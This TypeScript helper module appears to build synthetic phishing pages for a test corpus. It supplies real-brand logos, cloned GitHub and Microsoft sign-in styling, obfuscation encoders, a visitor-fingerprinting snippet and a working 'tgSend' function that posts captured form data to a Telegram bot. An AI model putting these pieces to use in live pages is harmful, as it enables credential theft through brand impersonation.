/**
 * Shared furniture for the `zz-` pages: document shells, small inline logos, the look of the
 * (made-up) European developer platform "Quellwerk" and a few encoders used by kits.
 */
import { Buffer } from 'node:buffer';

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const pct = (s: string): string => Array.from(Buffer.from(s, 'utf8')).map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const xorHex = (s: string, key: string): string =>
  Array.from(Buffer.from(s, 'utf8')).map((b, i) => (b ^ key.charCodeAt(i % key.length)).toString(16).padStart(2, '0')).join('');
export const rev = (s: string): string => s.split('').reverse().join('');
export const codes = (s: string): string => s.split('').map((c) => c.charCodeAt(0)).join(',');
export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export const FONT = `-apple-system,BlinkMacSystemFont,"Segoe UI","Noto Sans",Helvetica,Arial,sans-serif`;

export function doc(o: { title: string; lang?: string; head?: string; body: string; bodyAttrs?: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/* ---------------------------------------------------------------- logos */

export const QW_MARK = `<svg class="qw-mark" width="32" height="32" viewBox="0 0 32 32" aria-hidden="true"><rect width="32" height="32" rx="7" fill="#0f5c4d"/><path d="M9 9h8.5a6.5 6.5 0 0 1 3.9 11.7L24 24h-4.2l-1.9-2.1c-.4.1-.9.1-1.4.1H9z" fill="#fff"/><circle cx="16.2" cy="15.5" r="3" fill="#0f5c4d"/></svg>`;
export const GH_MARK = `<svg height="48" viewBox="0 0 16 16" width="48" aria-hidden="true"><path fill="currentColor" d="M8 0c4.42 0 8 3.58 8 8a8.013 8.013 0 0 1-5.45 7.59c-.4.08-.55-.17-.55-.38 0-.27.01-1.13.01-2.2 0-.75-.25-1.23-.54-1.48 1.78-.2 3.65-.88 3.65-3.95 0-.88-.31-1.59-.82-2.15.08-.2.36-1.02-.08-2.12 0 0-.67-.22-2.2.82-.64-.18-1.32-.27-2-.27-.68 0-1.36.09-2 .27-1.53-1.03-2.2-.82-2.2-.82-.44 1.1-.16 1.92-.08 2.12-.51.56-.82 1.28-.82 2.15 0 3.06 1.86 3.75 3.64 3.95-.23.2-.44.55-.51 1.07-.46.21-1.61.55-2.33-.66-.15-.24-.6-.83-1.23-.82-.67.01-.27.38.01.53.34.19.73.9.82 1.13.16.45.68 1.31 2.69.94 0 .67.01 1.3.01 1.49 0 .21-.15.45-.55.38A7.995 7.995 0 0 1 0 8c0-4.42 3.58-8 8-8Z"></path></svg>`;
export const MS_LOGO = `<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><rect x="0" y="1" width="10" height="10" fill="#f25022"/><rect x="11" y="1" width="10" height="10" fill="#7fba00"/><rect x="0" y="12" width="10" height="10" fill="#00a4ef"/><rect x="11" y="12" width="10" height="10" fill="#ffb900"/><text x="27" y="17" font-family="Segoe UI,Arial" font-size="15" font-weight="600" fill="#737373">Microsoft</text></svg>`;
export const GOOGLE_LOGO = `<svg width="75" height="24" viewBox="0 0 75 24" aria-hidden="true"><text x="0" y="19" font-family="Product Sans,Arial" font-size="21"><tspan fill="#4285f4">G</tspan><tspan fill="#ea4335">o</tspan><tspan fill="#fbbc05">o</tspan><tspan fill="#4285f4">g</tspan><tspan fill="#34a853">l</tspan><tspan fill="#ea4335">e</tspan></text></svg>`;
export const OKTA_LOGO = `<svg width="86" height="28" viewBox="0 0 86 28" aria-label="Okta"><circle cx="13" cy="14" r="10" fill="none" stroke="#00297a" stroke-width="5"/><text x="29" y="21" font-family="Arial" font-weight="700" font-size="20" fill="#00297a">okta</text></svg>`;
export const SLACK_MARK = `<svg width="36" height="36" viewBox="0 0 36 36" aria-hidden="true"><rect x="14" y="2" width="6" height="16" rx="3" fill="#36c5f0"/><rect x="18" y="14" width="16" height="6" rx="3" fill="#2eb67d"/><rect x="16" y="18" width="6" height="16" rx="3" fill="#ecb22e"/><rect x="2" y="16" width="16" height="6" rx="3" fill="#e01e5a"/></svg>`;
export const AWS_LOGO = `<svg width="60" height="36" viewBox="0 0 60 36" aria-label="AWS"><text x="2" y="22" font-family="Arial" font-weight="700" font-size="22" fill="#232f3e">aws</text><path d="M4 28c14 7 34 7 48-1" stroke="#ff9900" stroke-width="3" fill="none"/><path d="M48 24l6 2-3 5" stroke="#ff9900" stroke-width="3" fill="none"/></svg>`;
export const NPM_LOGO = `<svg width="80" height="31" viewBox="0 0 18 7" aria-label="npm"><path fill="#CB3837" d="M0,0h18v6H9v1H5V6H0V0z"/><path fill="#FFFFFF" d="M1,1v4h2V2h1v3h1V1H1z M6,1v5h2V5h2V1H6z M8,2h1v2H8V2z M11,1v4h2V2h1v3h1V2h1v3h1V1H11z"/></svg>`;
export const ATLASSIAN_LOGO = `<svg width="140" height="24" viewBox="0 0 140 24" aria-label="Atlassian"><path d="M7 11c-.4-.5-1-.4-1.3.2L.1 22.4c-.3.6.1 1.2.7 1.2h7.8c.3 0 .6-.2.7-.4 1.7-3.5.7-8.9-2.3-12.2z" fill="#2684ff"/><path d="M11.1 1.1c-3.1 4.9-2.9 10.3-.9 14.3l3.8 7.6c.1.3.4.4.7.4h7.8c.6 0 1-.6.7-1.2L12.4 1.1c-.3-.6-1-.6-1.3 0z" fill="#0052cc"/><text x="30" y="18" font-family="Arial" font-size="17" font-weight="600" fill="#253858">ATLASSIAN</text></svg>`;

/* ---------------------------------------------------------------- Quellwerk look */

export const QW_CSS = `
:root{--qw-green:#0f5c4d;--qw-green-2:#127a66;--qw-ink:#1b2430;--qw-muted:#5b6675;--qw-line:#dfe3e8;--qw-bg:#f6f8f9}
*{box-sizing:border-box}
body{margin:0;font-family:${FONT};color:var(--qw-ink);background:var(--qw-bg);font-size:15px;line-height:1.5}
a{color:var(--qw-green-2);text-decoration:none}a:hover{text-decoration:underline}
.qw-top{background:#fff;border-bottom:1px solid var(--qw-line);height:60px;display:flex;align-items:center;padding:0 28px;gap:22px}
.qw-top .brand{display:flex;align-items:center;gap:10px;font-weight:700;font-size:18px;color:var(--qw-ink)}
.qw-top nav a{color:var(--qw-muted);margin-right:18px;font-size:14px}
.qw-top .right{margin-left:auto;display:flex;gap:10px}
.btn{display:inline-block;border:1px solid var(--qw-line);background:#fff;color:var(--qw-ink);border-radius:6px;padding:8px 14px;font-size:14px;font-weight:600;cursor:pointer}
.btn-primary{background:var(--qw-green);border-color:var(--qw-green);color:#fff}
.btn-primary:hover{background:var(--qw-green-2)}
.auth-wrap{max-width:400px;margin:56px auto;padding:0 16px}
.auth-card{background:#fff;border:1px solid var(--qw-line);border-radius:10px;padding:28px}
.auth-card h1{font-size:22px;margin:12px 0 18px}
.auth-card label{display:block;font-size:13px;font-weight:600;margin:14px 0 6px}
.auth-card input[type=text],.auth-card input[type=email],.auth-card input[type=password]{width:100%;padding:10px 12px;border:1px solid #c7ced6;border-radius:6px;font-size:15px}
.auth-card .row{display:flex;justify-content:space-between;align-items:center;margin-top:14px;font-size:13px}
.auth-card .btn-primary{width:100%;margin-top:20px;padding:11px}
.sep{display:flex;align-items:center;gap:10px;color:var(--qw-muted);font-size:12px;margin:20px 0}
.sep:before,.sep:after{content:"";flex:1;border-top:1px solid var(--qw-line)}
.sso{display:flex;flex-direction:column;gap:8px}
.sso .btn{text-align:center}
.foot{max-width:1100px;margin:48px auto 24px;color:var(--qw-muted);font-size:12px;display:flex;gap:18px;flex-wrap:wrap;padding:0 28px}
.content{max-width:860px;margin:32px auto;padding:0 24px;background:#fff;border:1px solid var(--qw-line);border-radius:10px}
.content article{padding:8px 32px 32px}
pre{background:#0f1720;color:#e6edf3;padding:14px 16px;border-radius:8px;overflow:auto;font-size:13px;line-height:1.45}
code{font-family:ui-monospace,SFMono-Regular,Menlo,Consolas,monospace}
p code,li code{background:#eef1f4;padding:1px 5px;border-radius:4px;font-size:13px}
table{border-collapse:collapse;width:100%}td,th{border-bottom:1px solid var(--qw-line);padding:8px;text-align:left;font-size:14px}
`;

export const QW_TOP = (right = `<a class="btn" href="/users/sign_in">Sign in</a><a class="btn btn-primary" href="/users/sign_up">Start free</a>`): string =>
  `<header class="qw-top"><a class="brand" href="/">${QW_MARK}<span>Quellwerk</span></a><nav><a href="/product">Product</a><a href="/pricing">Pricing</a><a href="https://docs.quellwerk.io/">Docs</a><a href="/blog">Blog</a><a href="https://status.quellwerk.io/">Status</a></nav><div class="right">${right}</div></header>`;

export const QW_FOOT = `<footer class="foot"><span>© 2025 Quellwerk GmbH, Torstraße 109, 10119 Berlin</span><a href="/legal/imprint">Imprint</a><a href="/legal/privacy">Privacy</a><a href="/legal/terms">Terms</a><a href="/security">Security</a><a href="https://status.quellwerk.io/">Status</a></footer>`;

/** A Quellwerk-styled document (used by the real site and, copied, by clones of it). */
export function qwDoc(o: { title: string; lang?: string; main: string; head?: string; top?: string; foot?: string }): string {
  return doc({ title: o.title, lang: o.lang, head: `<link rel="icon" href="/favicon.ico"><style>${QW_CSS}</style>${o.head ?? ''}`, body: `${o.top ?? QW_TOP()}\n<main>${o.main}</main>\n${o.foot ?? QW_FOOT}` });
}

/* ---------------------------------------------------------------- GitHub-like look (for github.com pages and their clones) */

export const GH_CSS = `
body{margin:0;background:#f6f8fa;color:#1f2328;font-family:${FONT};font-size:14px;line-height:1.5}
.auth-form{width:340px;margin:0 auto;padding:0 16px}
.header-logged-out{padding:32px 0 24px;text-align:center;color:#1f2328}
.auth-form-header{text-align:center;margin-bottom:15px}
.auth-form-header h1{font-size:24px;font-weight:300;letter-spacing:-.5px;margin:0}
.auth-form-body{padding:16px;background:#fff;border:1px solid #d1d9e0;border-radius:6px}
.auth-form-body label{display:block;margin-bottom:6px;font-weight:400}
.form-control{width:100%;padding:5px 12px;font-size:14px;line-height:20px;border:1px solid #d1d9e0;border-radius:6px;box-sizing:border-box;margin-bottom:16px;height:32px}
.btn-primary{width:100%;background:#1f883d;color:#fff;border:1px solid rgba(31,35,40,.15);border-radius:6px;padding:5px 16px;font-size:14px;font-weight:500;height:32px;cursor:pointer}
.label-link{float:right;font-size:12px}
.login-callout{margin-top:16px;padding:16px;text-align:center;border:1px solid #d1d9e0;border-radius:6px}
a{color:#0969da;text-decoration:none}
.footer{margin:40px 0;text-align:center;font-size:12px;color:#59636e}.footer a{margin:0 8px;color:#59636e}
.flash{padding:16px;border:1px solid rgba(212,167,44,.4);background:#fff8c5;border-radius:6px;margin-bottom:12px;font-size:13px}
`;

export const GH_FOOT = `<div class="footer"><a href="https://docs.github.com/site-policy/github-terms/github-terms-of-service">Terms</a><a href="https://docs.github.com/site-policy/privacy-policies/github-privacy-statement">Privacy</a><a href="https://docs.github.com">Docs</a><a href="https://support.github.com">Contact GitHub Support</a><a href="https://github.com/account/organizations/new">Manage cookies</a></div>`;

/* ---------------------------------------------------------------- Microsoft sign-in look */

export const MS_CSS = `
body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,BlinkMacSystemFont,Roboto,"Helvetica Neue",sans-serif;background:#f2f2f2 linear-gradient(135deg,#e8eef6,#f6f1ea);min-height:100vh}
.ms-box{width:440px;max-width:calc(100% - 40px);margin:12vh auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
.ms-box h1{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}
.ms-input{width:100%;border:none;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin:8px 0 16px}
.ms-input:focus{border-bottom-color:#0067b8}
.ms-btn{background:#0067b8;color:#fff;border:none;min-width:108px;padding:6px 12px;font-size:15px;float:right;cursor:pointer}
.ms-small{font-size:13px;color:#1b1b1b;margin:6px 0}.ms-small a{color:#0067b8}
.ms-err{color:#e81123;font-size:14px;display:none}
.ms-foot{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 16px}.ms-foot a{color:#000;margin-left:12px;text-decoration:none}
.ms-id{display:flex;align-items:center;gap:6px;font-size:15px;margin-top:10px}
`;

/** Common exfil helper as written into many kits: send the form to a Telegram bot. */
export const tgSend = (token: string, chat: string): string => `function tgSend(t){var u="https://api.telegram.org/bot${token}/sendMessage";var f=new FormData();f.append("chat_id","${chat}");f.append("text",t);f.append("parse_mode","HTML");return fetch(u,{method:"POST",body:f}).catch(function(){});}`;

/** Collects rough visitor info the way kits do before exfil. */
export const VISITOR_INFO = `function vinfo(){return {ua:navigator.userAgent,lang:navigator.language,tz:(Intl.DateTimeFormat().resolvedOptions().timeZone||""),scr:screen.width+"x"+screen.height,ref:document.referrer,ts:new Date().toISOString()};}`;

/** PowerShell -EncodedCommand form (base64 of UTF-16LE). */
export const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
